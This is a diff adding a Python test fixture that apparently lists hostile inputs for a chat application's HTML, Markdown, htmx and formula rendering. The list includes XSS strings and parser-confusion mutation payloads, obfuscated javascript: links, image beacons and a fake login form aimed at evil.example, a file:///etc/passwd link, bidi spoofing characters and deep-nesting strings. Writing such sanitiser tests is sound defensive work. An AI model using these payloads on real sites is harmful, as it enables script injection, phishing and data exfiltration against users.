@@ -1,0 +1,86 @@
+"""Texts that try to run a script or to reach a foreign server when they are shown. `P` is what a script would call."""
+
+from __future__ import annotations
+
+EVIL = "https://evil.example"
+P = "window.__pwned=1"
+
+PAYLOADS = [
+    # Elements and handlers.
+    f"<script>{P}</script>",
+    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
+    f"<scr<script>ipt>{P}</scr</script>ipt>",
+    f"<img src=x onerror={P}>",
+    f'<img/src="{EVIL}/a.png"/onload="{P}">',
+    f"<svg onload={P}><circle r=9 /></svg>",
+    f"<svg><animate onbegin={P} attributeName=x dur=1s></svg>",
+    f"<svg><use href='{EVIL}/s.svg#a'/><image href='{EVIL}/i.png'/></svg>",
+    f"<svg><script>{P}</script></svg>",
+    f"<body onpageshow={P}>",
+    f"<details open ontoggle={P}><summary>x</summary></details>",
+    f"<input autofocus onfocus={P}>",
+    f"<video src={EVIL}/v.mp4 onerror={P}><source onerror={P}></video>",
+    f"<audio src={EVIL}/a.mp3 autoplay></audio>",
+    f"<marquee onstart={P}>x</marquee>",
+    f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>parent.{P[7:]}</script>'></iframe>",
+    f"<object data={EVIL}/o.swf></object><embed src={EVIL}/e.swf>",
+    f"<form action={EVIL} id=login><input name=password><button formaction={EVIL}>Sign in</button></form>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<base href={EVIL}/>",
+    f"<link rel=stylesheet href={EVIL}/c.css><link rel=prefetch href={EVIL}/p>",
+    f"<style>@import url({EVIL}/i.css); body {{ background: url({EVIL}/b.png) }}</style>",
+    f"<p style=\"background:url('{EVIL}/s.png');position:fixed;inset:0\">cover</p>",
+    f"<math><mtext><a xlink:href='javascript:{P}'>x</a></mtext><maction actiontype=statusline>y</maction></math>",
+    f"<template><img src=x onerror={P}></template><noscript><p title='</noscript><img src=x onerror={P}>'>",
+    # Parsers that disagree.
+    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={P}&gt;'>",
+    f"<svg></p><style><a id='</style><img src=1 onerror={P}>'>",
+    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={P}>",
+    f"<!--><img src=x onerror={P}>-->",
+    f"<![CDATA[<img src=x onerror={P}>]]><?xml-stylesheet href='javascript:{P}'?>",
+    f"<xmp><p title='</xmp><img src=x onerror={P}>'>",
+    f"<textarea><img src=x onerror={P}></textarea><title><img src=x onerror={P}></title>",
+    f"<a href='x' <b onmouseover={P}>half open",
+    f'"><img src=x onerror={P}>',
+    f"'-{P}-'",
+    f"{{{{{P}}}}}{{% load answers %}}${{{P}}}",
+    # Markdown.
+    f"![picture]({EVIL}/m.png)",
+    f'![a]({EVIL}/q?data=secret "onload={P}")',
+    f"[click me](javascript:{P})",
+    f"[click me](JaVaScRiPt:{P})",
+    f"[click me](java&#10;script:{P})",
+    f"[click me](&#x6a;avascript&colon;{P})",
+    "[click me](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)",
+    f"[click me](vbscript:{P}) [and](file:///etc/passwd) [and](//evil.example/x)",
+    f"[by reference][r] ![and a picture][r]\n\n[r]: javascript:{P}",
+    f"<{EVIL}/auto> <javascript:{P}> <mailto:a@evil.example> {EVIL}/bare www.evil.example",
+    f'[x]({EVIL}/"onmouseover="{P})',
+    f"[![nested]({EVIL}/n.png)](javascript:{P})",
+    f"[1](javascript:{P}) and [1]({EVIL}/cite) and ![1]({EVIL}/c.png)",
+    f"[1]: {EVIL}/one\n\n[1] as defined above",
+    f"```html\n<img src=x onerror={P}>\n```",
+    f"`<img src=x onerror={P}>`",
+    f"| <img src=x onerror={P}> | [a](javascript:{P}) |\n| --- | --- |\n| ![t]({EVIL}/t.png) | <svg onload={P}> |",
+    f"# <img src=x onerror={P}>\n\n> <iframe src={EVIL}>\n\n- <b onclick={P}>x",
+    # What pages and htmx go by.
+    "<img name=getElementById><form id=turns><input name=querySelector></form><a id=csrfmiddlewaretoken name=body>",
+    f"<div hx-get='{EVIL}/h' hx-trigger=load>x</div><div data-hx-get='/chatbots/' data-hx-trigger=load>y</div>",
+    f"<div hx-on:click='{P}' hx-on::load='{P}' hx-vals='js:{{a:{P}}}'>x</div>",
+    f"<div hx-ext=sse sse-connect='{EVIL}/s' sse-swap=done>x</div>",
+    "<button data-note='note-1' data-stream hx-delete='/chats/' hx-trigger='load'>x</button>",
+    f"<script type=module>import '{EVIL}/m.js'</script><script type=speculationrules>{{}}</script>",
+    # Formulas.
+    f"$\\href{{javascript:{P}}}{{x}}$ and $\\url{{{EVIL}/f}}$",
+    f"$\\includegraphics{{{EVIL}/f.png}}$ and $\\class{{turn}}{{x}}$ and $\\style{{background:url({EVIL}/st)}}{{x}}$",
+    f"$x^{{<img src=x onerror={P}>}}$ and $\\text{{<script>{P}</script>}}$",
+    f'$$\\def\\a{{\\a\\a}}\\a$$ and \\(\\htmlData{{on=x}}{{y}}\\) and \\[\\color{{"onload={P}}}{{z}}\\]',
+    f"$\\mathrm{{\\unicode{{x3C}}img src=x onerror={P}}}$",
+    # Signs that are not seen, and sheer mass.
+    "\u202etxt.gpj.exe\u202c \u2066<b>\u2069 \u200b\u200d\ufeff \ue002"
+    + "1:0\ue003 \ue000mark\ue001 \ue004x\ue005 \x0b\x1b[2J",
+    "".join(f"{'>' * 60} deep "),
+    "*" * 200 + "_" * 200 + "[" * 200 + "]" * 200,
+    "<b>" * 150 + "deep",
+    "| " + " | ".join("x" for _ in range(120)) + " |\n| " + " | ".join("---" for _ in range(120)) + " |",
+]
